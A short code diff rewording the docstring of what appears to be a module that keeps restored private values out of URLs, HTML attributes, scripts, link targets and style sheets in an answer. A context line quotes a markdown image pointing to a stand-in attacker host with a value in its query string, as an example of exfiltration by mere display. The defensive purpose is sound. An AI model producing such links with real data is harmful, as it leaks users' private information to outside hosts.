@@ -1,5 +1,6 @@
-"""The places of an answer where nothing is ever put back: URLs, link targets, HTML attributes,
-scripts and style sheets.
+"""The places of an answer where nothing is ever put back: URLs, HTML attributes, scripts.
+
+Link targets and style sheets are such places, too.
 
 A restored value there could be carried off by the mere display or a click
 (`![x](https://evil.example/?q=<value>)`). Judged from the text before a position, so a stream
